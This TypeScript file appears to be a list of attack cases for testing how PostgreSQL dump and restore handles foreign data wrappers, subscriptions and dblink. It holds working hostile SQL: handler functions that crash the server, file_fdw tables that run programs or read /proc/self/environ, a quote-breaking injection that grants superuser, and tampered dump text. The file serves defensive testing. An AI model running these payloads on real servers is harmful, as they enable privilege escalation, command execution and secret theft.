import { type Attack, added, trap } from './attack.ts'

export const FOREIGN: readonly Attack[] = [
  {
    name: 'fdw_handler',
    fault: 'FM91',
    where: 'pg_foreign_data_wrapper.fdwhandler',
    sees: 'planning a query calls what is no handler: the server crashes',
    sql: `CREATE FUNCTION hostile.handler() RETURNS fdw_handler LANGUAGE c AS '$libdir/pg_trgm', 'similarity';
      CREATE FOREIGN DATA WRAPPER hostile_wrapper HANDLER hostile.handler;
      CREATE SERVER hostile_server FOREIGN DATA WRAPPER hostile_wrapper;
      CREATE FOREIGN TABLE hostile.far (a integer) SERVER hostile_server;
      ${trap('SELECT * FROM hostile.far')}`,
    expected: 'refused',
    names: /FOREIGN DATA WRAPPER/,
  },
  {
    name: 'fdw_validator',
    fault: 'FM92',
    where: 'dump part: a C function as the validator of a wrapper',
    sees: 'the admin makes the server, and that calls it: the server crashes',
    tampered:
      added(`CREATE FUNCTION hostile.validator(text[], oid) RETURNS void LANGUAGE c AS '$libdir/btree_gist', 'gbt_text_same';
CREATE FOREIGN DATA WRAPPER hostile_wrapper VALIDATOR hostile.validator;
CREATE SERVER hostile_server FOREIGN DATA WRAPPER hostile_wrapper OPTIONS (a 'b');`),
    expected: 'refused',
  },
  {
    name: 'fdw_validator_of_owner',
    fault: 'FM91',
    where: 'pg_foreign_data_wrapper.fdwvalidator, in PL/pgSQL',
    sees: 'the validator runs as the admin who makes the server',
    sql: `CREATE FUNCTION hostile.validator(text[], oid) RETURNS void LANGUAGE plpgsql AS $f$ BEGIN PERFORM hostile.attack('validator'); END $f$;
      CREATE FOREIGN DATA WRAPPER hostile_wrapper VALIDATOR hostile.validator;
      CREATE SERVER hostile_server FOREIGN DATA WRAPPER hostile_wrapper OPTIONS (a 'b');
      CREATE USER MAPPING FOR postgres SERVER hostile_server OPTIONS (password 'x');`,
    expected: 'refused',
    names: /FOREIGN DATA WRAPPER/,
  },
  {
    name: 'user_mapping',
    fault: 'FM77',
    where: 'pg_user_mapping, options with quotes',
    sees: 'an option ends the literal that it stands in',
    sql: `CREATE EXTENSION postgres_fdw WITH SCHEMA hostile;
      CREATE SERVER "hostile'server" FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'x''); ALTER ROLE hostile_victim SUPERUSER; --');
      CREATE USER MAPPING FOR hostile_victim SERVER "hostile'server" OPTIONS (user 'x'');--', password E'\\'; SELECT hostile.attack(1)');`,
    expected: 'any',
    noControl: 'pg_dump quotes it rightly: it is here for what we do with the text',
  },
  {
    name: 'foreign_table_program',
    fault: 'FM91',
    where: 'pg_foreign_table of file_fdw (program), read by a materialized view',
    sees: 'loading runs a program as the server',
    sql: `CREATE EXTENSION file_fdw WITH SCHEMA hostile; CREATE SERVER hostile_files FOREIGN DATA WRAPPER file_fdw;
      CREATE FOREIGN TABLE hostile.program (a text) SERVER hostile_files OPTIONS (program 'touch @traces@/@name@-program');
      CREATE MATERIALIZED VIEW hostile.m AS SELECT * FROM hostile.program WITH NO DATA;
      ${trap('SELECT * FROM hostile.program')}`,
    expected: 'any',
  },
  {
    name: 'foreign_table_file',
    fault: 'FM91',
    where: 'pg_foreign_table of file_fdw (filename)',
    sees: "a file of the server's is read into a table",
    sql: `CREATE EXTENSION file_fdw WITH SCHEMA hostile; CREATE SERVER hostile_files FOREIGN DATA WRAPPER file_fdw;
      CREATE FOREIGN TABLE hostile.file (a text) SERVER hostile_files OPTIONS (filename '/proc/self/environ');
      ${trap('INSERT INTO hostile.loot SELECT * FROM hostile.file')}`,
    expected: 'any',
    noControl:
      "the environment of a server holds none of the program's secrets; as the server's user the others are tried by the payload",
  },
  {
    name: 'foreign_table_added',
    fault: 'FM92',
    where: 'dump part: a foreign table that is a program, given to the loader, and read',
    sees: 'loading runs a program as the server',
    tampered: {
      dump: text =>
        text
          .replace(
            /^CREATE SCHEMA hostile;$/m,
            `$&\nCREATE EXTENSION file_fdw WITH SCHEMA hostile;\nCREATE SERVER hostile_files FOREIGN DATA WRAPPER file_fdw;`,
          )
          .replace(
            '--\n-- PostgreSQL database dump complete',
            tail =>
              `GRANT ALL ON FOREIGN SERVER hostile_files TO PUBLIC;
CREATE FOREIGN TABLE hostile.program (a text) SERVER hostile_files OPTIONS (program 'touch @traces@/@name@-program');
GRANT ALL ON TABLE hostile.program TO PUBLIC;
CREATE MATERIALIZED VIEW hostile.m AS SELECT * FROM hostile.program;
REFRESH MATERIALIZED VIEW hostile.m;\n\n${tail}`,
          ),
    },
    expected: 'any',
  },
  {
    name: 'subscription_unconnected',
    fault: 'FM77',
    where: 'pg_subscription',
    sees: 'the server connects to wherever the archive says',
    sql: `CREATE SUBSCRIPTION hostile_@name@ CONNECTION 'host=127.0.0.1 port=@listener@ user=@name@ password=x sslmode=disable' PUBLICATION p WITH (connect = false, slot_name = NONE, enabled = false);`,
    expected: 'any',
    provoke: 'ALTER SUBSCRIPTION hostile_@name@ REFRESH PUBLICATION',
    noControl: 'a subscription that was made without a connection stays so until somebody enables it',
  },
  {
    name: 'subscription_connects',
    fault: 'FM92',
    where: 'dump part: CREATE SUBSCRIPTION that connects',
    sees: 'the server connects to wherever the archive says',
    tampered: added(
      `CREATE SUBSCRIPTION hostile_feed CONNECTION 'host=127.0.0.1 port=@listener@ user=@name@ password=x sslmode=disable connect_timeout=2' PUBLICATION p WITH (connect = false, copy_data = true, connect = true);
CREATE SUBSCRIPTION hostile_food CONNECTION 'host=127.0.0.1 port=@listener@ user=@name@ password=x sslmode=disable connect_timeout=2' PUBLICATION p;`,
    ),
    expected: 'any',
  },
  {
    name: 'extension_that_connects',
    fault: 'FM92',
    where: 'dump part: dblink, called by a check',
    sees: 'the server connects as its own superuser, by a socket or a password file',
    tampered: {
      dump: text =>
        text.replace(/^CREATE SCHEMA hostile;$/m, '$&\nCREATE EXTENSION dblink WITH SCHEMA hostile;').replace(
          '--\n-- PostgreSQL database dump complete',
          tail =>
            `CREATE TABLE hostile.t (a text CHECK (hostile.run(ARRAY[a])));
GRANT EXECUTE ON FUNCTION hostile.dblink_connect_u(text) TO PUBLIC;
INSERT INTO hostile.t VALUES ($$SELECT hostile.dblink_exec('dbname=postgres', 'ALTER ROLE hostile_victim SUPERUSER')$$), ($$SELECT hostile.dblink_connect_u('host=127.0.0.1 port=@listener@ user=@name@ password=x sslmode=disable')$$);\n\n${tail}`,
        ),
    },
    expected: 'any',
  },
]
